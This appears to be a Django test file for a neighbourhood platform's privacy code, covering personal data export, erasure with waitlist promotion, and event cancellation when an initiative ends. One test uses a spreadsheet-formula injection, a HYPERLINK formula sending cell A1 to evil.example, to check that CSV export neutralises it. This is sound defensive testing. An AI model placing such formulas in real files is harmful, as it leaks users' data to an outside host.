"""A person's community data in their export, and erasure (issue 18): what is only theirs goes, a place they held
at an event goes to the first one waiting, what belongs to the neighbourhood stays without their name."""

from __future__ import annotations

from datetime import time, timedelta

import pytest
from django.utils import timezone

from apps.access.privacy import erase_person, export_person
from apps.community.models import (
    Event,
    Follow,
    GrantCall,
    Initiative,
    JuryMember,
    PersonalFeed,
    Registration,
    SupportRequest,
)  # fmt: skip

from .conftest import World

pytestmark = pytest.mark.django_db


def test_export_names_every_community_row_and_erasure_frees_what_was_theirs(world: World) -> None:
    today = timezone.localdate()
    mine = Initiative.objects.create(
        title="Taalcafé", summary="Praten.", organiser="residents", audience=["everyone"], district=world.district,
        starter=world.starter, status="published", commitment_signed_at=timezone.now(),
        contact_email="karim@example.org",
    )  # fmt: skip
    draft = Initiative.objects.create(title="Soep", summary="x", organiser="residents", district=world.district,
                                      starter=world.starter)  # fmt: skip
    other = Initiative.objects.create(
        title="Repair Café", summary="x", organiser="residents", audience=["everyone"], district=world.district,
        starter=world.resident, status="published", commitment_signed_at=timezone.now(),
    )  # fmt: skip
    event = Event.objects.create(uid="p@example.org", title="Repair", initiative=other, district=world.district,
                                 starts_on=today + timedelta(days=3), start_time=time(10), duration_minutes=60,
                                 capacity=1)  # fmt: skip
    Registration.objects.create(event=event, occurs_on=event.starts_on, person=world.starter)
    waiting = Registration.objects.create(event=event, occurs_on=event.starts_on, person=world.helper,
                                          status="waiting")  # fmt: skip
    Follow.objects.create(initiative=other, person=world.starter)
    PersonalFeed.objects.create(person=world.starter, token="t" * 40)
    call = GrantCall.objects.create(title="Oproep", opens_on=today, deadline=today + timedelta(days=9), ceiling_eur=9)
    JuryMember.objects.create(call=call, person=world.starter, seat="resident")
    SupportRequest.objects.create(initiative=mine, kind="help", submitted_by=world.starter, message="Verzekering?",
                                  answer_due=today)  # fmt: skip

    tables = export_person(world.starter)
    assert [row["title"] for row in tables["community.initiatives"]] == ["Taalcafé", "Soep"]
    assert tables["community.registrations"][0]["status"] == "confirmed"
    assert tables["community.support_requests"][0]["message"] == "Verzekering?"
    assert {"community.follows", "community.jury_seats", "community.calendar_feed"} <= set(tables)

    erase_person(world.starter)
    assert not Registration.objects.filter(person=world.starter).exists()
    waiting.refresh_from_db()
    assert waiting.status == "confirmed" and waiting.promoted_at is not None  # the freed place went on
    assert not Initiative.objects.filter(pk=draft.pk).exists()
    mine.refresh_from_db()
    assert (mine.status, mine.starter, mine.contact_email) == ("ended", None, "")
    assert not Follow.objects.filter(person=world.starter).exists()
    assert not PersonalFeed.objects.exists() and not JuryMember.objects.exists()
    assert SupportRequest.objects.get().submitted_by is None and SupportRequest.objects.get().message == ""


def test_a_formula_typed_by_someone_else_is_plain_text_in_a_persons_csv(world: World) -> None:
    from apps.access.privacy import export_as_csv

    other = Initiative.objects.create(
        title='=HYPERLINK("https://evil.example/?"&A1;"Klik")', summary="x", organiser="residents",
        audience=["everyone"], district=world.district, starter=world.resident, status="published",
        commitment_signed_at=timezone.now(),
    )  # fmt: skip
    Follow.objects.create(initiative=other, person=world.starter)
    text = export_as_csv(export_person(world.starter))
    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text


def test_ending_an_initiative_cancels_its_events_and_tells_who_registered(world: World) -> None:
    from django.core import mail

    from apps.access.actors import actor_for_user
    from apps.community import services

    mine = Initiative.objects.create(
        title="Taalcafé", summary="x", organiser="residents", audience=["everyone"], district=world.district,
        starter=world.starter, status="published", commitment_signed_at=timezone.now(),
    )  # fmt: skip
    event = Event.objects.create(uid="end@example.org", title="Taalcafé", initiative=mine, district=world.district,
                                 starts_on=timezone.localdate() + timedelta(days=3), start_time=time(14),
                                 duration_minutes=60, capacity=5)  # fmt: skip
    Registration.objects.create(event=event, occurs_on=event.starts_on, person=world.resident)
    mail.outbox.clear()
    services.initiative_end(actor=actor_for_user(world.starter.user), initiative=mine)
    event.refresh_from_db()
    assert (event.status, event.sequence) == ("cancelled", 1)
    assert Registration.objects.get().status == "cancelled"
    assert [m.to for m in mail.outbox] == [[world.resident.email]]
    feed = world.client("anonymous").get(f"/nl/feeds/district/{world.district.number}.ics").content.decode()
    assert "UID:end@example.org" in feed and "STATUS:CANCELLED" in feed  # calendars take it away
